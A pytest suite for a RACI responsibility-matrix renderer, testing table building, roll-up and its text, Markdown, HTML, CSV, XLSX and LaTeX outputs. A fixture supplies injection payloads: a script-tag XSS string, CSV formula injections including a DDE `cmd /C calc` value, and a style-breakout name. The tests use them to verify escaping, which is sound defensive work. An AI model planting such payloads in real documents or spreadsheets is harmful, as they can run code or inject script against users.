"""The responsibility matrix: the table, roll-up, every output format, escaping, round trips."""

from __future__ import annotations

import csv
import io
import re
import shutil
import warnings
from html.parser import HTMLParser
from pathlib import Path

import attrs
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings

import raci
from helpers import EXAMPLES, loads, pdflatex
from raci._text import display_width
from raci.render.matrix.as_text import fit, fit_all
from raci.render.matrix.table import build_matrix
from raci.render.matrix.writer import MatrixWidthWarning, render_matrix
from raci.schemes import BUILTIN_SCHEMES
from strategies import organizations

DATA = Path(__file__).resolve().parent.parent / "data" / "sheets"
ACME = DATA / "acme.yaml"
UN_HABITAT = EXAMPLES / "un-habitat-2020" / "org.yaml"

#: Names that try to break out of every format.
HOSTILE = r"""
version: 1
units:
  - id: root
    name: '<script>alert("x")</script> & Co'
positions:
  - {id: eq, title: '=HYPERLINK("http://evil.example","click")', unit: root}
  - {id: plus, title: '+1 (555) 0100', unit: root}
  - {id: minus, title: '-2+3', unit: root}
  - {id: at, title: '@SUM(A1)', unit: root}
  - {id: quote, title: "'=already quoted", unit: root}
  - {id: tex, title: 'Back\slash {braces} $5 & #1 ^up _down 50% ~tilde', unit: root}
  - {id: pipe, title: 'Pipe | and * star _ under `tick` [link]', unit: root}
  - {id: cjk, title: 人居署, unit: root}
deliverables:
  - id: d1
    name: '=cmd|'' /C calc''!A0'
    raci: {A: eq, R: [plus, minus, at, quote, tex, pipe, cjk, root]}
  - id: d2
    name: 'Row with | pipe and <b>tags</b>'
    raci: {A: root, R: tex, C: [pipe, eq]}
"""


def assignments(org: raci.Organization) -> list[tuple[str, str, str]]:
    return sorted((a.deliverable, a.role, a.party) for a in org.assignments())


@pytest.fixture
def acme() -> raci.Organization:
    return raci.load(ACME)


class TestBuild:
    """Rows by group in file order; columns in chart order, grouped under their units."""

    def test_rows_and_columns(self, acme: raci.Organization) -> None:
        """Ungrouped rows first, then each group; only parties with roles are columns."""
        m = build_matrix(acme)
        assert [r.id for r in m.rows] == ["loose", "budget", "forecast", "deliver"]
        assert [(g, [r.id for r in rows]) for g, rows in m.sections()] == [
            ("", ["loose"]),
            ("Planning", ["budget", "forecast"]),
            ("Running", ["deliver"]),
        ]
        assert [c.id for c in m.columns] == ["ceo", "ops", "ship", "clerk", "fin", "board"]
        assert [[(s.label, s.size) for s in row] for row in m.header_rows] == [
            [("", 1), ("Operations", 3), ("", 1), ("External parties", 1)],
            [("", 1), ("", 1), ("Shipping", 2), ("", 1), ("", 1)],
        ]

    def test_letters_in_scheme_order(self, acme: raci.Organization) -> None:
        """A cell with several roles lists them in scheme order (R before A)."""
        forecast = build_matrix(acme).rows[2]
        assert forecast.cells[4] == ("R", "A")

    def test_language(self, acme: raci.Organization) -> None:
        """--lang picks names in that language, falling back to the default."""
        m = build_matrix(acme, lang="zh")
        assert [c.label for c in m.columns][:3] == ["首席执行官", "运营司", "运输处"]
        assert m.rows[0].label == "Loose end"
        assert m.title == "阿克米"

    def test_choose_parties_and_groups(self, acme: raci.Organization) -> None:
        """--parties picks columns by id or name, in that order; --group filters rows."""
        m = build_matrix(acme, parties=["board", "Finance", "acme"], groups=["Planning"])
        assert [c.id for c in m.columns] == ["board", "fin", "acme"]
        assert [r.id for r in m.rows] == ["budget", "forecast"]
        assert [r.cells for r in m.rows] == [(("I",), ("R",), ()), ((), ("R", "A"), ())]

    @pytest.mark.parametrize(
        ("options", "message"),
        [
            (
                {"level": "galaxy"},
                "unknown level 'galaxy'; the levels in use are organization, division, branch",
            ),
            ({"level": "divison"}, "did you mean `division`?"),
            (
                {"level": "section"},
                "no unit is at level 'section'; the levels in use are organization, division,"
                " branch",
            ),
            ({"parties": ["ceo", "nobody"]}, "no party has the id or name 'nobody'"),
            ({"groups": ["nope"]}, "no group has the id or name 'nope'"),
            (
                {"level": "division", "parties": ["ship"]},
                "no party column at level 'division' has the id or name 'ship'",
            ),
        ],
    )
    def test_bad_options(
        self, acme: raci.Organization, options: dict[str, object], message: str
    ) -> None:
        """Unknown levels, parties and groups are QueryErrors that say which."""
        with pytest.raises(raci.QueryError, match=re.escape(message)):
            build_matrix(acme, **options)  # type: ignore[arg-type]


class TestRollUp:
    """--level: a unit's and its posts' roles count for their ancestor at that level."""

    def test_division(self, acme: raci.Organization) -> None:
        """Shipping and its clerk fold into Operations; letters meet in scheme order."""
        m = build_matrix(acme, level="division")
        assert [c.id for c in m.columns] == ["ceo", "ops", "fin", "board"]
        cells = {r.id: dict(zip([c.id for c in m.columns], r.cells, strict=True)) for r in m.rows}
        assert cells["deliver"]["ops"] == ("R", "A")
        assert cells["forecast"] == {"ceo": (), "ops": ("C",), "fin": ("R", "A"), "board": ()}
        assert cells["loose"]["ops"] == ("R",)
        assert m.header_rows == ()

    def test_branch_keeps_units_above(self, acme: raci.Organization) -> None:
        """Parties above the level keep their own column; posts fold into their unit."""
        m = build_matrix(acme, level="branch")
        assert [c.id for c in m.columns] == ["ceo", "ops", "ship", "fin", "board"]
        deliver = m.rows[3]
        assert deliver.cells[2] == ("R",)

    def test_no_ancestor_at_the_level(self) -> None:
        """A unit without an ancestor at the level keeps its column and takes its posts'."""
        org = raci.load(UN_HABITAT)
        m = build_matrix(org, level="branch")
        ids = [c.id for c in m.columns]
        assert "plgs" in ids  # a section right under the Global Solutions Division
        assert "url-fp" not in ids
        assert "head-plgs" not in ids
        webinar = next(r for r in m.rows if r.id == "url-webinars")
        assert webinar.cells[ids.index("plgs")] == ("R", "A")

    def test_no_levels_in_use(self, tmp_path: Path) -> None:
        """Without levels on any unit nothing can be rolled up: an error that says so."""
        path = tmp_path / "org.csv"
        path.write_text("id,name,parent\ntop,Top,\nteam,Team,top\n")
        org = raci.load(path)
        org = org.__class__(
            units=org.units,
            deliverables={
                "d": raci.Deliverable(
                    "d", raci.Names.plain("d"), assignments=(raci.Assignment("d", "A", "team"),)
                )
            },
        )
        with pytest.raises(raci.QueryError, match="no unit has a level"):
            build_matrix(org, level="division")

    def test_units_without_a_level_keep_columns(self) -> None:
        """A unit with no level and no level above it keeps its own column."""
        org = loads(
            """
            version: 1
            units:
              - id: top
                level: organization
              - {id: div, level: division, parent: top}
              - {id: loose, parent: top}
            deliverables:
              - {id: d, raci: {A: loose, R: div}}
            """
        )
        assert [c.id for c in build_matrix(org, level="division").columns] == ["div", "loose"]

    def test_shared_rank(self) -> None:
        """A level shares its rank with its equals: an office rolls up as a division."""
        org = raci.load(UN_HABITAT)
        m = build_matrix(org, level="division")
        assert [c.id for c in m.columns][:5] == ["ed", "oed", "erski", "gsd", "rpd"]
        rows = {r.id: r for r in m.rows}
        # rpd-tor: A ded (post in oed), R gp-task-force (under oed), C macs (under oed).
        assert rows["rpd-tor"].cells[1] == ("R", "A", "C")


def chain(depth: int, level_every: int = 0) -> raci.Organization:
    """A hierarchy ``depth`` units deep, one unit under the other, with roles at the top,
    the middle and the bottom; every ``level_every``-th unit is a division."""
    units = {"u0": raci.Unit("u0", raci.Names.plain("Top"), "organization")}
    for i in range(1, depth):
        level = "division" if level_every and i % level_every == 0 else None
        units[f"u{i}"] = raci.Unit(f"u{i}", raci.Names.plain(f"Unit {i}"), level, f"u{i - 1}")
    roles = (("A", "u0"), ("C", f"u{depth // 2}"), ("R", f"u{depth - 1}"))
    item = raci.Deliverable(
        "d",
        raci.Names.plain("Deep work"),
        assignments=tuple(raci.Assignment("d", r, p) for r, p in roles),
    )
    return raci.Organization(names=raci.Names.plain("Chain"), units=units, deliverables={"d": item})


class TestDeepHierarchy:
    """A hierarchy is walked once: a 10,000-deep chain of units renders in moments."""

    def test_chain(self) -> None:
        """Chart order, and the enclosing units of each column, from the top down."""
        m = build_matrix(chain(10_000))
        assert [c.id for c in m.columns] == ["u0", "u5000", "u9999"]
        assert [c.groups for c in m.columns] == [
            (),
            (("u1", "Unit 1"), ("u2", "Unit 2")),
            (("u1", "Unit 1"), ("u2", "Unit 2")),
        ]
        assert m.rows[0].cells == (("A",), ("C",), ("R",))

    def test_chain_rolled_up(self) -> None:
        """Each unit counts for the nearest division above it."""
        m = build_matrix(chain(10_000, level_every=1000), level="division")
        assert [c.id for c in m.columns] == ["u0", "u5000", "u9000"]
        assert render_matrix(chain(10_000), format="html")

    def test_cycle(self) -> None:
        """Units in a cycle still get a column, and the walk ends."""
        org = chain(5)
        units = dict(org.units)
        units["u1"] = attrs.evolve(units["u1"], parent="u3")
        org = attrs.evolve(org, units=units)
        m = build_matrix(org)
        assert {c.id for c in m.columns} == {"u0", "u2", "u4"}
        assert [c.id for c in build_matrix(org, level="organization").columns] == ["u0", "u2", "u4"]


def many_parties(n: int = 40, rows: int = 6) -> raci.Organization:
    """``n`` units with long names that share a start, all holding roles on rows whose long
    names share their first 60 characters."""
    units = "".join(
        f"  - {{id: u{i}, name: Regional office for programme delivery {i}, parent: top}}\n"
        for i in range(n)
    )
    informed = ", ".join(f"u{i}" for i in range(n))
    items = "".join(
        f"  - {{id: d{i}, name: '{LONG_PREFIX}, part {i}',"
        f" raci: {{A: u{i}, R: [u{(i + 1) % n}], I: [{informed}]}}}}\n"
        for i in range(rows)
    )
    return loads(
        "version: 1\nunits:\n  - {id: top, name: Top}\n" + units + "deliverables:\n" + items
    )


#: Sixty characters that several deliverable names start with.
LONG_PREFIX = "Prepare the annual report on programme delivery and the budg"
assert len(LONG_PREFIX) == 60


def text_of(org: raci.Organization, **options: object) -> tuple[str, list[str]]:
    """The terminal table and the warnings rendering it gave."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        text = render_matrix(org, **options)  # type: ignore[arg-type]
    assert isinstance(text, str)
    return text, [str(w.message) for w in caught if w.category is MatrixWidthWarning]


class TestText:
    """The terminal table: fits the terminal, cut names stay distinguishable."""

    def test_exact(self, acme: raci.Organization) -> None:
        """Columns line up; groups head their rows; the legend closes."""
        assert render_matrix(acme, level="division", width=80) == (
            "Deliverable  │ Chief Executi…  Operations  Finance  Board\n"
            "─────────────┼───────────────────────────────────────────\n"
            "Loose end    │       A             R\n"
            "Planning\n"
            "  Budget     │       A             C          R       I\n"
            "  Forecast   │                     C         R/A\n"
            "Running\n"
            "  Deliveries │                    R/A         I\n"
            "\n"
            "R Responsible  A Accountable  C Consulted  I Informed\n"
        )

    def test_shorter_headers_to_fit(self, acme: raci.Organization) -> None:
        """At 80 columns the six Acme parties fit with names cut to 12 columns."""
        text, warned = text_of(acme, width=80)
        assert not warned
        assert max(display_width(line) for line in text.splitlines()) <= 80
        assert (
            "Deliverable  │ Chief Execu…  Operations  Shipping  Shipping cl…  Finance  Board"
            in text.splitlines()
        )

    def test_numbered_columns(self, acme: raci.Organization) -> None:
        """Narrower still, the columns are numbered and a key below names them."""
        text, warned = text_of(acme, width=50)
        assert not warned
        lines = text.splitlines()
        assert max(display_width(line) for line in lines) <= 50
        assert "Deliverable  │ 1 2 3 4   5 6" in lines
        assert "  Budget     │ A C       R I" in lines
        assert lines[lines.index("Parties:") + 1 :][:3] == [
            "1 Chief Executive  2 Operations",
            "3 Shipping         4 Shipping clerk",
            "5 Finance          6 Board",
        ]

    def test_forty_parties_at_200(self) -> None:
        """Forty parties fit 200 columns: numbered, every name in full in the key."""
        text, warned = text_of(many_parties(), width=200)
        assert not warned
        lines = text.splitlines()
        assert max(display_width(line) for line in lines) <= 200
        assert lines[0].split("│")[1].split() == [str(i) for i in range(1, 41)]
        for i in range(40):
            assert f"{i + 1:>2} Regional office for programme delivery {i}" in text

    def test_forty_parties_at_80(self) -> None:
        """Forty parties cannot fit 80 columns: a warning says so and what to do."""
        text, warned = text_of(many_parties(), width=80)
        [message] = warned
        assert "the terminal 80" in message
        assert "--level" in message
        assert "-o matrix.html" in message
        key = text.split("Parties:\n")[1].split("\n\n")[0].splitlines()
        assert len(key) == 40
        assert max(display_width(line) for line in key) <= 80

    def test_default_width_is_the_terminal(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """Without a width the table fits the terminal (here $COLUMNS)."""
        monkeypatch.setenv("COLUMNS", "200")
        assert not text_of(many_parties())[1]
        monkeypatch.setenv("COLUMNS", "80")
        assert text_of(many_parties())[1]

    def test_file_has_no_width_limit(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        """A .txt file is not cut to the terminal: party names head the columns."""
        monkeypatch.setenv("COLUMNS", "80")
        text, warned = text_of(many_parties(), path=tmp_path / "m.txt")
        assert not warned
        assert "Parties:" not in text

    def test_bad_width(self, acme: raci.Organization) -> None:
        with pytest.raises(TypeError, match="width must be an int"):
            render_matrix(acme, width="80")  # type: ignore[arg-type]
        with pytest.raises(ValueError, match="width must be 0"):
            render_matrix(acme, width=-1)

    def test_long_names_stay_distinguishable(self) -> None:
        """Row labels sharing a 60-character start are cut so that they still differ."""
        for width in (80, 200):
            text, _ = text_of(many_parties(rows=6), width=width)
            labels = [line.split("│")[0].strip() for line in text.splitlines()[2:8]]
            assert len(set(labels)) == 6, labels
            assert all(label.endswith(f" {i}") for i, label in enumerate(labels)), labels

    def test_cjk_is_two_columns_wide(self) -> None:
        """With Chinese names the separators still line up on screen."""
        text = str(render_matrix(raci.load(UN_HABITAT), lang="zh", width=200))
        bars = {display_width(line[: line.index("│")]) for line in text.splitlines() if "│" in line}
        assert len(bars) == 1
        assert "人居署内罗毕总部的结构调整" in text
        assert text.splitlines()[2].startswith("交付成果")

    def test_fit(self) -> None:
        """Cutting counts wide characters as two columns."""
        assert fit("人居署执行局", 7) == "人居署…"
        assert display_width(fit("人居署执行局", 7)) <= 7
        assert fit("short", 7) == "short"
        assert fit("two\nlines", 20) == "two lines"

    @pytest.mark.parametrize(
        ("texts", "width"),
        [
            ([LONG_PREFIX + " part 1", LONG_PREFIX + " part 2"], 20),
            ([LONG_PREFIX + " part 1", LONG_PREFIX + " part 2", LONG_PREFIX], 30),
            (
                [
                    "Review of A for the region (final version)",
                    "Review of B for the region (final version)",
                ],
                12,
            ),
            ([f"{LONG_PREFIX} (middle {i}) and then the same long ending" for i in range(3)], 24),
            (["人居署执行局第一届会议报告", "人居署执行局第二届会议报告"], 12),
            (["x" * 50 + "a" + "y" * 50, "x" * 50 + "b" + "y" * 50], 8),
        ],
    )
    def test_fit_all(self, texts: list[str], width: int) -> None:
        """Different texts stay different however they are cut, and fit the width."""
        cut = fit_all(texts, width)
        assert len(set(cut)) == len(texts), cut
        assert all(display_width(c) <= width for c in cut), cut

    def test_fit_all_shows_where_look_alikes_part(self) -> None:
        """Names that differ in their last words keep those words, not a number."""
        texts = [f"{LONG_PREFIX} for region {i} part {j}" for i in range(20) for j in range(20)]
        cut = fit_all(texts, 30)
        assert len(set(cut)) == 400
        assert cut[21] == "Prepare th…for region 1 part 1"
        assert not [c for c in cut if "#" in c]
        wide = ["人居署执行局第一届会议报告", "人居署执行局第二届会议报告"]
        assert fit_all(wide, 12) == ["人居…局第一…", "人居…局第二…"]

    def test_fit_all_keeps_what_fits(self) -> None:
        assert fit_all(["Budget", "Forecast", "Budget"], 10) == ["Budget", "Forecast", "Budget"]


class TestMarkdown:
    """Markdown: one pipe table, group rows in bold, a legend table after it."""

    def test_exact(self, acme: raci.Organization) -> None:
        assert render_matrix(acme, format="md") == (
            "# Responsibility matrix: Acme\n"
            "\n"
            "| Deliverable | Chief Executive | Operations | Shipping | Shipping clerk"
            " | Finance | Board |\n"
            "|---|:-:|:-:|:-:|:-:|:-:|:-:|\n"
            "| Loose end | A |  | R |  |  |  |\n"
            "| **Planning** |  |  |  |  |  |  |\n"
            "| Budget | A | C |  |  | R | I |\n"
            "| Forecast |  |  |  | C | R/A |  |\n"
            "| **Running** |  |  |  |  |  |  |\n"
            "| Deliveries |  | A | R | R | I |  |\n"
            "\n"
            "| Letter | Role |\n"
            "|---|---|\n"
            "| R | Responsible |\n"
            "| A | Accountable |\n"
            "| C | Consulted |\n"
            "| I | Informed |\n"
        )

    def test_escaping(self) -> None:
        """Pipes, backslashes, emphasis and tags are escaped; each row stays one row."""
        text = str(render_matrix(loads(HOSTILE), format="md"))
        assert r"Pipe \| and \* star \_ under \`tick\` \[link\]" in text
        assert r"Back\\slash" in text
        assert r"Row with \| pipe and \<b\>tags\</b\>" in text
        header = text.splitlines()[2]
        assert header.count(" | ") == 9

    def test_row_without_roles(self, acme: raci.Organization, tmp_path: Path) -> None:
        """A row with no roles shows dashes, so it does not read back as a group heading."""
        text = str(render_matrix(acme, format="md", parties=["board"], groups=["plan"]))
        assert "| Forecast | - |" in text


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


class TestHtml:
    """One self-contained page: colours per role, sticky header, print styles."""

    def parse(self, html: str) -> _Tags:
        parser = _Tags()
        parser.feed(html)
        return parser

    def test_structure(self, acme: raci.Organization) -> None:
        """Header rows with spans, a group row per group, a cell per party per row."""
        html = str(render_matrix(acme, format="html"))
        tags = self.parse(html).tags
        trs = [t for t in tags if t[0] == "tr"]
        assert len(trs) == 3 + 4 + 2  # header rows, deliverables, groups
        spans = [
            a.get("colspan") for t, a in tags if t == "th" and "span" in (a.get("class") or "")
        ]
        assert spans == [None, "3", None, None, None, None, "2", None, None]
        assert len([t for t in tags if t[0] == "td"]) == 4 * 6
        role_cells = [a["class"] for t, a in tags if t == "td" and a.get("class")]
        assert role_cells.count("x1") == 3  # A alone, in scheme position 1
        assert role_cells.count("x0") == 4  # R alone
        assert 'class="x1 y0">R/A</td>' in html  # coloured as A, with a stripe of R

    def test_self_contained(self, acme: raci.Organization) -> None:
        """No scripts or fetches; sticky header and a print stylesheet."""
        html = str(render_matrix(acme, format="html"))
        tags = self.parse(html).tags
        assert not [t for t, a in tags if t in ("script", "link", "img", "iframe")]
        assert not re.search(r"(src|href)=|url\(|@import", html)
        assert "thead{position:sticky;top:0" in html
        assert "@media print{" in html
        assert ".x0{background:#5db0ec}" in html

    def test_escaping(self) -> None:
        """Every name is escaped: no tag or attribute can be injected."""
        html = str(render_matrix(loads(HOSTILE), format="html"))
        tags = self.parse(html).tags
        assert {t for t, _ in tags} <= {
            "html", "head", "meta", "title", "style", "body", "h1", "div", "span", "b",
            "table", "colgroup", "col", "thead", "tbody", "tr", "th", "td",
        }  # fmt: skip
        assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; Co" in html
        assert "Row with | pipe and &lt;b&gt;tags&lt;/b&gt;" in html
        assert "<script" not in html

    def test_lang_attribute(self, acme: raci.Organization) -> None:
        assert '<html lang="zh">' in str(render_matrix(acme, format="html", lang="zh"))

    def test_printed_page_names_the_organization_escaped(self) -> None:
        """The running header is a CSS string that no name can end or step out of."""
        org = loads(
            "version: 1\n"
            "organization: {name: 'Evil \\\" </style><script>x()</script>'}\n"
            "units: [{id: u, name: U}]\n"
            "deliverables: [{id: d, name: D, raci: {A: u, R: u}}]\n"
        )
        html = str(render_matrix(org, format="html"))
        style = html[html.index("<style>") : html.index("</style>")]
        assert '@top-left{content:"Evil \\5c \\22  \\3c /style\\3e \\3c script\\3e x()' in style
        assert html.count("</style>") == 1
        assert "<script" not in html

    @pytest.mark.parametrize(
        ("paper", "landscape", "size"),
        [
            (None, None, "297mm 210mm"),
            ("Letter", False, "215.9mm 279.4mm"),
            ("A3", True, "420mm 297mm"),
        ],
    )
    def test_printed_on_the_paper_with_page_numbers(
        self, acme: raci.Organization, paper: str | None, landscape: bool | None, size: str
    ) -> None:
        html = str(render_matrix(acme, format="html", paper=paper, landscape=landscape))
        assert f"@page{{size:{size};margin:14mm 10mm;" in html
        assert '@bottom-center{content:"Page " counter(page) " of " counter(pages);' in html
        zh = str(render_matrix(acme, format="html", lang="zh"))
        assert '@bottom-center{content:"第 " counter(page) " 页 共 " counter(pages) " 页";' in zh

    @pytest.mark.parametrize(("landscape", "per"), [(True, 20), (False, 15)])
    def test_a_matrix_wider_than_the_page_prints_in_parts(self, landscape: bool, per: int) -> None:
        """Printed, 60 party columns come in as few tables of 8.5 mm columns beside the
        deliverables as the page takes (26 columns a page on A4 landscape: three tables of
        20; 16 portrait: four of 15), each with every row; on screen the one wide table
        stays."""
        org = many_parties(60)
        html = str(render_matrix(org, format="html", paper="A4", landscape=landscape))
        found = [
            (int(a), int(b)) for a, b in re.findall(r'data-from="(\d+)" data-to="(\d+)"', html)
        ]
        assert found == [(start, start + per) for start in range(0, 60, per)]
        assert 'class="raci-wrap raci-wide"' in html
        assert html.count('<table class="raci">') == 1
        body = html[html.index('<div class="raci-parts">') :]
        for start, stop in found:
            table = body[body.index(f'data-from="{start}"') : body.index("</table>")]
            body = body[body.index("</table>") + 1 :]
            assert f"Parties {start + 1}–{stop} of 60" in table
            assert f"width:{50 + 8.5 * (stop - start):g}mm" in table
            heads = re.findall(r'scope="col" title="[^"]*"><div>([^<]*)</div>', table)
            names = [f"Regional office for programme delivery {i}" for i in range(start, stop)]
            assert heads == names
            rows = re.findall(r'<tr><th scope="row"[^>]*>[^<]*</th>(.*?)</tr>', table)
            assert len(rows) == 6
            assert all(row.count("<td") == stop - start for row in rows)
        narrow = str(render_matrix(many_parties(20), format="html", paper="A4"))
        assert "raci-parts" not in narrow.split("</style>")[1]

    def test_a_part_has_its_own_header_rows(self) -> None:
        m = build_matrix(raci.load(UN_HABITAT))
        for start, stop in ((0, 3), (2, 9), (5, len(m.columns))):
            part = m.parties(start, stop)
            assert part.columns == m.columns[start:stop]
            assert all(sum(s.size for s in spans) == stop - start for spans in part.header_rows)
            assert [r.cells for r in part.rows] == [r.cells[start:stop] for r in m.rows]

    def test_paper_is_for_html(self, acme: raci.Organization) -> None:
        with pytest.raises(ValueError, match="paper and landscape are for an HTML matrix, not MD"):
            render_matrix(acme, format="md", paper="A4")


class TestCsv:
    """CSV: one row per deliverable, formula-like cells prefixed."""

    def test_exact(self, acme: raci.Organization) -> None:
        assert render_matrix(acme, format="csv") == (
            "\ufeffid,name,group,due,"
            "Chief Executive,Operations,Shipping,Shipping clerk,Finance,Board\r\n"
            "loose,Loose end,,,A,,R,,,\r\n"
            "budget,Budget,Planning,2020-03-31,A,C,,,R,I\r\n"
            "forecast,Forecast,Planning,,,,,C,R/A,\r\n"
            "deliver,Deliveries,Running,,,A,R,R,I,\r\n"
        )

    def test_formula_injection(self) -> None:
        """Cells starting with = + - @ (or a quote) get a leading apostrophe."""
        text = str(render_matrix(loads(HOSTILE), format="csv"))
        header, first = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[:2]
        assert {
            '\'=HYPERLINK("http://evil.example","click")',
            "'+1 (555) 0100",
            "'-2+3",
            "'@SUM(A1)",
            "''=already quoted",
            '<script>alert("x")</script> & Co',
        } <= set(header)
        assert first[:2] == ["d1", "'=cmd|' /C calc'!A0"]
        assert not [cell for cell in header + first if cell[:1] in ("=", "+", "-", "@")]


class TestXlsx:
    """XLSX read back with openpyxl."""

    def read(self, data: str | bytes) -> openpyxl.Workbook:
        assert isinstance(data, bytes)
        return openpyxl.load_workbook(io.BytesIO(data))

    def test_layout(self, acme: raci.Organization) -> None:
        """Matrix sheet first, frozen panes, merged group headings, widths, colours."""
        book = self.read(render_matrix(acme, format="xlsx"))
        assert book.sheetnames == ["Matrix", "Legend"]
        ws = book["Matrix"]
        assert ws.freeze_panes == "E4"
        assert sorted(str(r) for r in ws.merged_cells.ranges) == ["F1:H1", "G2:H2"]
        assert (ws["F1"].value, ws["G2"].value, ws["J1"].value) == (
            "Operations",
            "Shipping",
            "External parties",
        )
        assert [c.value for c in ws[3]] == [
            "id", "name", "group", "due", "Chief Executive", "Operations", "Shipping",
            "Shipping clerk", "Finance", "Board",
        ]  # fmt: skip
        assert ws["E3"].alignment.text_rotation == 90
        assert ws.row_dimensions[3].height == 100  # room for "Chief Executive" turned up
        assert [c.value for c in ws[6]] == ["forecast", "Forecast", "Planning", None,
                                            None, None, None, "C", "R/A", None]  # fmt: skip
        assert ws["I6"].fill.fgColor.rgb == "00D9642C"  # R/A coloured as A ...
        assert ws["I6"].border.bottom.color.rgb == "000B5F9E"  # ... with a stripe of R
        assert ws["I6"].border.bottom.style == "thick"
        assert ws["G7"].fill.fgColor.rgb == "005DB0EC"  # R
        assert ws["G7"].border.bottom.style is None
        assert ws["E4"].fill.fgColor.rgb == "00D9642C"  # A
        assert ws["H6"].fill.fgColor.rgb == "0086DAB4"  # C
        assert ws.column_dimensions["B"].width == 12
        assert ws.column_dimensions["E"].width == 5
        assert ws.print_title_rows == "$1:$3"

    @pytest.mark.parametrize("lang", ["en", "zh", "ru", "ar"])
    def test_long_texts_are_not_cut(self, lang: str) -> None:
        """Groups and names get the width they need up to 60 characters, and wrap beyond it
        in a row tall enough for their lines; the header row holds the longest rotated
        party name (about 6 points a character), a name beyond 48 characters wrapped over
        lines side by side in a column wide enough for them."""
        ws = self.read(render_matrix(raci.load(UN_HABITAT), format="xlsx", lang=lang))["Matrix"]
        header = [c.value for c in ws[3]]
        first = header.index("due") + 2
        for letter, title in (("B", "name"), ("C", "group")):
            texts = [c.value or "" for c in ws[letter][3:]]
            assert header[ord(letter) - 65] == title
            width = ws.column_dimensions[letter].width
            assert width == min(max(display_width(t) + 2 for t in texts), 60)
            for cell, text in zip(ws[letter][3:], texts, strict=True):
                if display_width(text) + 2 > width:
                    lines = -(-display_width(text) // (width - 2))
                    assert cell.alignment.wrap_text, text
                    assert ws.row_dimensions[cell.row].height >= 15 * lines, text
        height = ws.row_dimensions[3].height
        assert height <= 409
        for cell in ws[3][first - 1 :]:
            need = 6 * display_width(cell.value) + 10
            assert bool(cell.alignment.wrap_text) == (display_width(cell.value) > 48)
            if cell.alignment.wrap_text:
                lines = -(-(need - 10) // (height - 10))
                assert ws.column_dimensions[cell.column_letter].width >= 3 * lines + 1
            else:
                assert need <= height, cell.value

    def test_legend_sheet(self, acme: raci.Organization) -> None:
        """Letters with their colours, then which party each column is."""
        ws = self.read(render_matrix(acme, format="xlsx"))["Legend"]
        rows = [tuple(c.value for c in row) for row in ws.iter_rows()]
        assert rows[:5] == [
            ("Letter", "Role", None),
            ("R", "Responsible", None),
            ("A", "Accountable", None),
            ("C", "Consulted", None),
            ("I", "Informed", None),
        ]
        assert ws["A3"].fill.fgColor.rgb == "00D9642C"
        assert rows[5][0] == "R/A"
        assert rows[5][1].startswith("A cell with several roles takes the colour of Accountable")
        assert ws["A6"].fill.fgColor.rgb == "00D9642C"
        assert ws["A6"].border.bottom.color.rgb == "000B5F9E"
        assert rows[7] == ("Column", "Party", "Name")
        assert rows[8] == ("E", "ceo", "Chief Executive")

    def test_formula_injection_and_control_characters(self) -> None:
        """Formula-like names are text with a leading apostrophe; control characters go."""
        org = loads(HOSTILE)
        org = org.__class__(
            names=org.names,
            units=org.units,
            positions={
                **org.positions,
                "bell": raci.Position("bell", raci.Names.plain("Ring\x07 the\x00bell"), "root"),
            },
            deliverables={
                **org.deliverables,
                "d3": raci.Deliverable(
                    "d3", raci.Names.plain("d3"), assignments=(raci.Assignment("d3", "I", "bell"),)
                ),
            },
        )
        ws = self.read(render_matrix(org, format="xlsx"))["Matrix"]
        header = [c.value for c in ws[1]]
        assert '\'=HYPERLINK("http://evil.example","click")' in header
        assert {"'+1 (555) 0100", "'-2+3", "'@SUM(A1)", "''=already quoted"} <= set(header)
        assert "Ring the" + "bell" in header
        assert ws["B2"].value == "'=cmd|' /C calc'!A0"
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def _pdflatex(path: Path, runs: int = 1) -> Path:
    """The PDF that pdflatex makes of ``path``, run ``runs`` times (for page references)."""
    done = pdflatex(path, runs)
    assert done.returncode == 0, done.stdout[-2000:]
    return path.with_suffix(".pdf")


class TestTex:
    """LaTeX: booktabs, longtable when long, every special character escaped."""

    def test_escaping(self) -> None:
        tex = str(render_matrix(loads(HOSTILE), format="tex"))
        assert (
            r"Back\textbackslash{}slash \{braces\} \$5 \& \#1 \textasciicircum{}up \_down"
            r" 50\% \textasciitilde{}tilde"
        ) in tex
        assert r"=cmd|' /C calc'!A0" in tex
        body = tex.split(r"\begin{document}")[1]
        unescaped = re.findall(r"(?<!\\)[$&#^_%~]", body.replace(r"\\", ""))
        assert set(unescaped) <= {"&"}  # only column separators
        # the header (written twice: for the first page and for the others) and two rows
        assert body.count("&") - body.count(r"\&") == 4 * 9

    def test_structure(self, acme: raci.Organization) -> None:
        """A standalone document: booktabs rules in a longtable, fixed-width columns."""
        tex = str(render_matrix(acme, format="tex"))
        assert tex.startswith(r"\documentclass")
        assert tex.rstrip().endswith(r"\end{document}")
        for rule in (r"\toprule", r"\midrule", r"\bottomrule", r"\cmidrule(lr){3-5}"):
            assert rule in tex
        assert (
            r"\begin{longtable}{@{}>{\raggedright\arraybackslash\footnotesize}p{5.0cm}"
            r"*{6}{>{\centering\arraybackslash\footnotesize}p{0.64cm}}@{}}"
        ) in tex
        assert r"\hangindent=1em\hspace*{1em}Forecast &  &  &  & C & R/A &  \\" in tex
        assert tex.count("{") == tex.count("}")
        assert re.findall(r"\\begin\{(\w+)\}", tex) == ["document", "longtable"]
        assert (
            r"\usepackage[a4paper,margin=1.5cm,includehead,includefoot,headheight=14pt]{geometry}"
        ) in tex
        assert "CJK" not in tex

    def test_running_header_and_page_numbers(self, acme: raci.Organization) -> None:
        tex = str(render_matrix(acme, format="tex"))
        assert r"\pagestyle{fancy}" in tex
        assert r"\lhead{\small Acme}" in tex
        assert r"\rhead{\small Responsibility matrix}" in tex
        assert r"\cfoot{\small Page \thepage{} of \pageref{raci-last-page}}" in tex
        assert tex.rstrip().endswith("\\label{raci-last-page}\n\\end{document}")
